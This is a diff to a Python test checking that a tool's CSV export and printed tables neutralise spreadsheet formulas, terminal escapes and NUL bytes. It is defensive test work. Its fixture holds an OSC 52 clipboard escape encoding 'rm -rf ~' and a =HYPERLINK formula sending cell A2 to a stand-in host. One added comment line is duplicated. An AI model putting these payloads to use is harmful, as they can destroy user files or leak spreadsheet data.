@@ -188,6 +188,7 @@ def test_exported_csv_and_printed_tables_hold_no_formula_and_no_escape(
         model="gpt-4o\x1b]52;c;cm0gLXJmIH4=\x07",
         output_text='=HYPERLINK("https://x.example/?"&A2,"open")',
         attributes={"team": "red"},
+        error={"type": "x", "message": "before\x00after"},
     )
     assert post_events(project, [sent]).status_code == 200
     out = tmp_path / "events.csv"
@@ -200,6 +201,9 @@ def test_exported_csv_and_printed_tables_hold_no_formula_and_no_escape(
     with out.open() as f:
         (row,) = list(csv.DictReader(f))
     assert row["output_text"] == "'" + sent["output_text"]
+    # A NUL, where most CSV readers end a cell, is shown as U+FFFD.
+    # A NUL, where most CSV readers end a cell, is shown as U+FFFD.
+    assert "\x00" not in out.read_text() and row["error_message"] == "before\ufffdafter"
     listed = subprocess.run(
         [*LLMTAP, "events", *base, "--attribute", "team=red"], capture_output=True, text=True
     )
